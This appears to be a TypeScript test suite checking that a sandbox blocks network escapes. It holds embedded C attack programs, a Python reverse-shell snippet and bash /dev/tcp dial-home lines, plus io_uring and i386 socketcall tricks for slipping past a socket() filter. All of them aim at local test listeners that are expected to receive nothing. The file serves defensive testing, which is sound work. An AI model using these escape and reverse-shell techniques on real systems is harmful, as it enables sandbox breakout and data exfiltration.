// Network escapes, written the way an attacker would: dial home over TCP and UDP
// (IPv4, IPv6, v4-mapped, non-blocking), bash's /dev/tcp, DNS, raw, packet and
// netlink sockets, the host's unix sockets (abstract and by path, /dev/log),
// interface discovery, and the syscall routes around a socket() filter
// (io_uring, the i386 socketcall multiplexer). Every host listener first proves
// it counts a connection from the host; afterwards it must have counted nothing
// else.
import assert from 'node:assert/strict';
import { chmodSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import type { Snapshot } from '../helpers/leaks.js';
import { makeFixtureDir, PYTHON, removeFixtureDir, uniqueToken } from '../helpers/fixtures.js';
import {
  assertDatagramListenerCounts,
  assertStatus,
  assertStreamListenerCounts,
  assertNothingLeftBehind,
  assertViolation,
  baseline,
  compileAttacks,
  type DatagramListener,
  datagramListener,
  outcomes,
  sandbox,
  type StreamListener,
  streamListener,
} from './helpers.js';

const NETWORK_ATTACKS = `
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>

static int ip_address(const char* host, int port, struct sockaddr_storage* ss, socklen_t* len) {
  memset(ss, 0, sizeof *ss);
  struct sockaddr_in* in4 = (struct sockaddr_in*)ss;
  struct sockaddr_in6* in6 = (struct sockaddr_in6*)ss;
  if (inet_pton(AF_INET, host, &in4->sin_addr) == 1) {
    in4->sin_family = AF_INET;
    in4->sin_port = htons(port);
    *len = sizeof *in4;
    return AF_INET;
  }
  inet_pton(AF_INET6, host, &in6->sin6_addr);
  in6->sin6_family = AF_INET6;
  in6->sin6_port = htons(port);
  *len = sizeof *in6;
  return AF_INET6;
}

// A reverse shell dialling home: plain, non-blocking, and (for IPv4) through an
// IPv4-mapped IPv6 address in case only AF_INET is filtered.
static int tcp_connect(int argc, char** argv) {
  struct sockaddr_storage ss;
  socklen_t len;
  int family = ip_address(argv[0], atoi(argv[1]), &ss, &len);
  int s = report("socket", socket(family, SOCK_STREAM, 0));
  if (s >= 0) report("connect", connect(s, (struct sockaddr*)&ss, len));
  s = report("socket_nonblock", socket(family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_TCP));
  if (s >= 0) report("connect_nonblock", connect(s, (struct sockaddr*)&ss, len));
  if (family == AF_INET) {
    struct sockaddr_in6 mapped = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(argv[1]))};
    char text[80];
    snprintf(text, sizeof text, "::ffff:%s", argv[0]);
    inet_pton(AF_INET6, text, &mapped.sin6_addr);
    s = report("socket_v4mapped", socket(AF_INET6, SOCK_STREAM, 0));
    if (s >= 0) report("connect_v4mapped", connect(s, (struct sockaddr*)&mapped, sizeof mapped));
  }
  return 0;
}

// Exfiltration by datagram: sendto, then a connected socket and send.
static int udp_send(int argc, char** argv) {
  struct sockaddr_storage ss;
  socklen_t len;
  int family = ip_address(argv[0], atoi(argv[1]), &ss, &len);
  int s = report("socket", socket(family, SOCK_DGRAM, 0));
  if (s >= 0) report("sendto", sendto(s, "from-the-sandbox", 16, 0, (struct sockaddr*)&ss, len));
  s = report("socket_udp_proto", socket(family, SOCK_DGRAM | SOCK_NONBLOCK, IPPROTO_UDP));
  if (s >= 0 && report("connect_udp", connect(s, (struct sockaddr*)&ss, len)) == 0) report("send", send(s, "x", 1, 0));
  return 0;
}

// A service of our own for the outside to reach.
static int tcp_serve(int argc, char** argv) {
  struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[0]))};
  int s = report("socket", socket(AF_INET, SOCK_STREAM, 0));
  if (s >= 0 && report("bind", bind(s, (struct sockaddr*)&any, sizeof any)) == 0) report("listen", listen(s, 1));
  return 0;
}

// A hand-made DNS query for example.com, straight to each name server given.
static int dns_query(int argc, char** argv) {
  static const unsigned char query[] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e',
                                        3, 'c', 'o', 'm', 0, 0, 1, 0, 1};
  for (int i = 0; i < argc; i++) {
    struct sockaddr_storage ss;
    socklen_t len;
    int family = ip_address(argv[i], 53, &ss, &len);
    char key[96];
    snprintf(key, sizeof key, "udp53:%s", argv[i]);
    int s = report(key, socket(family, SOCK_DGRAM, 0));
    if (s >= 0) report("sendto", sendto(s, query, sizeof query, 0, (struct sockaddr*)&ss, len));
    snprintf(key, sizeof key, "tcp53:%s", argv[i]);
    s = report(key, socket(family, SOCK_STREAM, 0));
    if (s >= 0) report("connect", connect(s, (struct sockaddr*)&ss, len));
  }
  return 0;
}

// Sockets below TCP/UDP: sniff, forge, talk to the kernel.
static int raw_sockets(int argc, char** argv) {
  int pair[2];
  report("inet_raw_icmp", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
  report("inet_raw_tcp", socket(AF_INET, SOCK_RAW, IPPROTO_TCP));
  report("inet_ping", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
  report("inet6_raw", socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6));
  report("packet_raw", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
  report("packet_dgram", socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP)));
  report("netlink_route", socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE));
  report("netlink_uevent", socket(AF_NETLINK, SOCK_DGRAM, NETLINK_KOBJECT_UEVENT));
  report("netlink_audit", socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT));
  report("netlink_sock_diag", socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG));
  report("netlink_netfilter", socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER));
  report("vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
  report("alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
  report("pf_key", socket(PF_KEY, SOCK_RAW, 2));
  report("socketpair_inet", socketpair(AF_INET, SOCK_STREAM, 0, pair));
  report("socketpair_unix", socketpair(AF_UNIX, SOCK_STREAM, 0, pair));
  return 0;
}

// A unix socket by path, or abstract ("@name"): stream connect, then a datagram.
// An abstract name is tried both padded to the full sun_path (as Node binds
// one) and at its exact length (as most other programs do).
static int unix_connect(int argc, char** argv) {
  struct sockaddr_un un = {.sun_family = AF_UNIX};
  int abstract = argv[0][0] == '@';
  if (abstract) strncpy(un.sun_path + 1, argv[0] + 1, sizeof un.sun_path - 2);
  else strncpy(un.sun_path, argv[0], sizeof un.sun_path - 1);
  int s = report("socket", socket(AF_UNIX, SOCK_STREAM, 0));
  if (s >= 0) report("connect", connect(s, (struct sockaddr*)&un, sizeof un));
  if (abstract) {
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    report("connect_exact", connect(s, (struct sockaddr*)&un, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[0] + 1)));
  }
  int d = report("dgram_socket", socket(AF_UNIX, SOCK_DGRAM, 0));
  if (d >= 0) report("sendto", sendto(d, "<11>from-the-sandbox", 20, 0, (struct sockaddr*)&un, sizeof un));
  return 0;
}

// Which interfaces exist (through an allowed AF_UNIX socket's ioctls)?
static int interfaces(int argc, char** argv) {
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  for (int i = 0; i < argc; i++) {
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, argv[i], IFNAMSIZ - 1);
    report(argv[i], ioctl(s, SIOCGIFINDEX, &ifr) < 0 ? -1 : ifr.ifr_ifindex);
  }
  char buf[4096];
  struct ifconf ifc = {.ifc_len = sizeof buf, .ifc_buf = buf};
  if (report("ifconf", ioctl(s, SIOCGIFCONF, &ifc)) == 0) printf("ifconf_entries %d\\n", (int)(ifc.ifc_len / sizeof(struct ifreq)));
  return 0;
}

// io_uring creates and connects sockets (IORING_OP_SOCKET, IORING_OP_CONNECT)
// without ever making the socket or connect syscalls a filter could see.
static int uring_socket(int argc, char** argv) {
  struct io_uring_params params;
  memset(&params, 0, sizeof params);
  int ring = report("io_uring_setup", syscall(SYS_io_uring_setup, 8, &params));
  if (ring >= 0) say("an attacker would now queue IORING_OP_SOCKET and IORING_OP_CONNECT");
  return 0;
}

// The i386 socketcall multiplexer: socket(AF_INET, SOCK_STREAM) by int $0x80,
// for filters that only know the x86_64 socket syscall.
static int socketcall_i386(int argc, char** argv) {
  static unsigned int args[3] = {AF_INET, SOCK_STREAM, 0};
  long rc;
  say("before");
  __asm__ volatile("int $0x80" : "=a"(rc) : "a"(102L), "b"(1L), "c"(args) : "memory");
  printf("after %ld\\n", rc);
  return 0;
}

int main(int argc, char** argv) {
  ATTACK(tcp_connect);
  ATTACK(udp_send);
  ATTACK(tcp_serve);
  ATTACK(dns_query);
  ATTACK(raw_sockets);
  ATTACK(unix_connect);
  ATTACK(interfaces);
  ATTACK(uring_socket);
  ATTACK(socketcall_i386);
  return 2;
}
`;

// A Python reverse shell, as found in every cheat sheet.
const PY_REVERSE_SHELL = `
import errno, socket, sys
host, port = sys.argv[1], int(sys.argv[2])
for family in (socket.AF_INET, socket.AF_INET6):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect((host, port) if family == socket.AF_INET else ('::ffff:' + host, port))
        s.sendall(b'shell from the sandbox')
        print(family.name, 'connected')
    except OSError as e:
        print(family.name, errno.errorcode.get(e.errno, e.errno))
`;

// A non-loopback IPv4 address of this host, if it has one.
function externalAddress(): string | undefined {
  for (const addresses of Object.values(networkInterfaces())) {
    for (const address of addresses ?? []) if (address.family === 'IPv4' && !address.internal) return address.address;
  }
  return undefined;
}

const hexPort = (port: number): string => port.toString(16).toUpperCase().padStart(4, '0');

describe('security: network', () => {
  let fixtures: string;
  let attacks: string;
  let files: { path: string; source: string }[];
  let tcp4: StreamListener;
  let tcp6: StreamListener;
  let tcpAny: StreamListener;
  let udp4: DatagramListener;
  let udp6: DatagramListener;
  let abstract: StreamListener;
  let pathSocket: StreamListener;
  let start: Snapshot;

  before(async () => {
    fixtures = makeFixtureDir();
    attacks = compileAttacks(fixtures, 'net', NETWORK_ATTACKS);
    files = [{ path: 'net', source: attacks }];
    tcp4 = await streamListener({ host: '127.0.0.1' });
    tcp6 = await streamListener({ host: '::1' });
    tcpAny = await streamListener({ host: '0.0.0.0' });
    udp4 = await datagramListener('127.0.0.1');
    udp6 = await datagramListener('::1');
    abstract = await streamListener({ path: `\0${uniqueToken('abstract')}` });
    pathSocket = await streamListener({ path: join(fixtures, 'service.sock') });
    chmodSync(join(fixtures, 'service.sock'), 0o777);
    for (const listener of [tcp4, tcp6, tcpAny, abstract, pathSocket]) await assertStreamListenerCounts(listener);
    for (const listener of [udp4, udp6]) await assertDatagramListenerCounts(listener);
    start = await baseline();
  });

  after(async () => {
    for (const listener of [tcp4, tcp6, tcpAny, udp4, udp6, abstract, pathSocket]) await listener?.close();
    removeFixtureDir(fixtures);
  });

  // Only the control connection/datagram: nothing from any sandbox.
  async function assertNothingArrived(): Promise<void> {
    await delay(100);
    for (const listener of [tcp4, tcp6, tcpAny, abstract, pathSocket]) {
      assert.equal(listener.connections(), 1, `${JSON.stringify(listener.address)}:${listener.port} was reached from a sandbox`);
    }
    for (const listener of [udp4, udp6]) assert.deepEqual(listener.received, ['control'], `udp ${listener.host} received`);
  }

  it('TCP to the host loopback (IPv4, non-blocking, v4-mapped) fails at socket(), nothing arrives', async () => {
    const result = await sandbox({ argv: ['./net', 'tcp_connect', '127.0.0.1', String(tcp4.port)], files });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'socket EAFNOSUPPORT\nsocket_nonblock EAFNOSUPPORT\nsocket_v4mapped EAFNOSUPPORT\n');
    await assertNothingArrived();
  });

  it('TCP to the host IPv6 loopback fails at socket(), nothing arrives', async () => {
    const result = await sandbox({ argv: ['./net', 'tcp_connect', '::1', String(tcp6.port)], files });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'socket EAFNOSUPPORT\nsocket_nonblock EAFNOSUPPORT\n');
    await assertNothingArrived();
  });

  it("TCP to the host's external address fails, nothing arrives", async (t) => {
    const external = externalAddress();
    if (!external) {
      t.skip('this host has no external IPv4 address');
      return;
    }
    const result = await sandbox({ argv: ['./net', 'tcp_connect', external, String(tcpAny.port)], files });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'socket EAFNOSUPPORT\nsocket_nonblock EAFNOSUPPORT\nsocket_v4mapped EAFNOSUPPORT\n');
    await assertNothingArrived();
  });

  it('a Python reverse shell cannot dial home', async () => {
    const result = await sandbox({ argv: [PYTHON, '-c', PY_REVERSE_SHELL, '127.0.0.1', String(tcp4.port)] });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'AF_INET EAFNOSUPPORT\nAF_INET6 EAFNOSUPPORT\n');
    await assertNothingArrived();
  });

  it("bash's /dev/tcp and /dev/udp cannot dial home", async () => {
    const script = `exec 3<>/dev/tcp/127.0.0.1/${tcp4.port}; echo "tcp=$?"; echo leak > /dev/udp/127.0.0.1/${udp4.port}; echo "udp=$?"`;
    const result = await sandbox({ argv: ['/bin/bash', '-c', script] });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'tcp=1\nudp=1\n');
    assert.match(result.stderr, /Address family not supported by protocol/);
    await assertNothingArrived();
  });

  it('UDP datagrams to the host loopback (IPv4 and IPv6) are never sent', async () => {
    for (const listener of [udp4, udp6]) {
      const result = await sandbox({ argv: ['./net', 'udp_send', listener.host, String(listener.port)], files });
      assertStatus(result, 'ok');
      assert.equal(result.stdout, 'socket EAFNOSUPPORT\nsocket_udp_proto EAFNOSUPPORT\n', listener.host);
    }
    await assertNothingArrived();
  });

  it('a TCP service of its own cannot be opened', async () => {
    const result = await sandbox({ argv: ['./net', 'tcp_serve', '8080'], files });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'socket EAFNOSUPPORT\n');
  });

  it('DNS: no resolver configuration, no lookup, no query leaves by UDP or TCP', async () => {
    const nameservers = ['8.8.8.8', '127.0.0.53', '10.255.255.53', '::1'];
    const query = await sandbox({ argv: ['./net', 'dns_query', ...nameservers], files });
    assertStatus(query, 'ok');
    assert.equal(query.stdout, nameservers.map((ns) => `udp53:${ns} EAFNOSUPPORT\ntcp53:${ns} EAFNOSUPPORT\n`).join(''));

    const lookups = `
import socket
for host in ['example.com', 'vm', 'localhost']:
    try:
        print(host, socket.getaddrinfo(host, 80, socket.AF_INET)[0][4][0])
    except socket.gaierror as e:
        print(host, 'gaierror', e.errno)
print('resolv.conf', 'present' if __import__('os').path.exists('/etc/resolv.conf') else 'absent')
`;
    const resolved = await sandbox({ argv: [PYTHON, '-c', lookups] });
    assertStatus(resolved, 'ok');
    // EAI_NONAME or EAI_AGAIN; localhost resolves from the generated /etc/hosts:
    // the resolver itself works
    assert.match(resolved.stdout, /^example\.com gaierror -[23]\nvm gaierror -[23]\nlocalhost 127\.0\.0\.1\nresolv\.conf absent\n$/);

    const getent = await sandbox({ argv: ['/bin/sh', '-c', 'getent hosts example.com; echo "getent=$?"'] });
    assertStatus(getent, 'ok');
    assert.equal(getent.stdout, 'getent=2\n');
  });

  it('raw, packet, netlink, vsock, AF_ALG and PF_KEY sockets cannot be created (AF_UNIX can)', async () => {
    const result = await sandbox({ argv: ['./net', 'raw_sockets'], files });
    assertStatus(result, 'ok');
    const denied = [
      'inet_raw_icmp',
      'inet_raw_tcp',
      'inet_ping',
      'inet6_raw',
      'packet_raw',
      'packet_dgram',
      'netlink_route',
      'netlink_uevent',
      'netlink_audit',
      'netlink_sock_diag',
      'netlink_netfilter',
      'vsock',
      'alg',
      'pf_key',
      'socketpair_inet',
    ];
    assert.equal(result.stdout, `${denied.map((name) => `${name} EAFNOSUPPORT\n`).join('')}socketpair_unix ok 0\n`);
  });

  it("an abstract unix socket listening on the host is out of reach", async () => {
    const name = abstract.address.slice(1);
    const result = await sandbox({ argv: ['./net', 'unix_connect', `@${name}`], files });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'socket ok 3\nconnect ECONNREFUSED\nconnect_exact ECONNREFUSED\ndgram_socket ok 5\nsendto ECONNREFUSED\n');
    await assertNothingArrived();
  });

  it("a host unix socket by path (0777, in a world-searchable dir) is out of reach, and so is /dev/log", async () => {
    for (const path of [pathSocket.address, '/dev/log', '/run/systemd/journal/socket']) {
      const result = await sandbox({ argv: ['./net', 'unix_connect', path], files });
      assertStatus(result, 'ok');
      assert.equal(result.stdout, 'socket ok 3\nconnect ENOENT\ndgram_socket ok 4\nsendto ENOENT\n', path);
    }
    await assertNothingArrived();
  });

  it("the host's interfaces cannot be found; only a loopback of its own exists", async () => {
    const names = Object.keys(networkInterfaces()).filter((name) => name !== 'lo');
    const result = await sandbox({ argv: ['./net', 'interfaces', 'lo', ...names, 'eth0', 'docker0'], files });
    assertStatus(result, 'ok');
    const seen = outcomes(result.stdout);
    assert.equal(seen.get('lo'), 'ok 1', 'control: the namespace loopback is found by the same call');
    for (const name of [...names, 'eth0', 'docker0']) assert.equal(seen.get(name), 'ENODEV', name);
    assert.equal(seen.get('ifconf'), 'ok 0');
    assert.equal(seen.get('ifconf_entries'), '0', 'an interface with an address is visible');
  });

  it("the host's sockets are not listed in /proc/net", async () => {
    const result = await sandbox({ argv: ['/bin/sh', '-c', 'cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp /proc/net/udp6 /proc/net/unix'] });
    assertStatus(result, 'ok');
    assert.match(result.stdout, /local_address/, 'control: the tables were read');
    for (const port of [tcp4.port, tcp6.port, tcpAny.port, udp4.port, udp6.port]) {
      assert.ok(!result.stdout.includes(`:${hexPort(port)} `), `host port ${port} is listed inside`);
    }
    assert.ok(!result.stdout.includes(pathSocket.address), 'the host unix socket is listed inside');
    assert.ok(!result.stdout.includes(abstract.address.slice(1)), 'the host abstract socket is listed inside');
  });

  it('io_uring, which would make sockets behind the filter\'s back, is not available', async () => {
    const result = await sandbox({ argv: ['./net', 'uring_socket'], files });
    assertStatus(result, 'ok');
    assert.equal(result.stdout, 'io_uring_setup ENOSYS\n');
  });

  it('socket() through the i386 socketcall multiplexer is a security violation', async () => {
    const result = await sandbox({ argv: ['./net', 'socketcall_i386'], files });
    assertViolation(result, 'i386:socketcall', 'before\n');
    await assertNothingArrived();
  });

  it('leaves nothing behind', async () => {
    await assertNothingArrived();
    await assertNothingLeftBehind(start);
  });
});
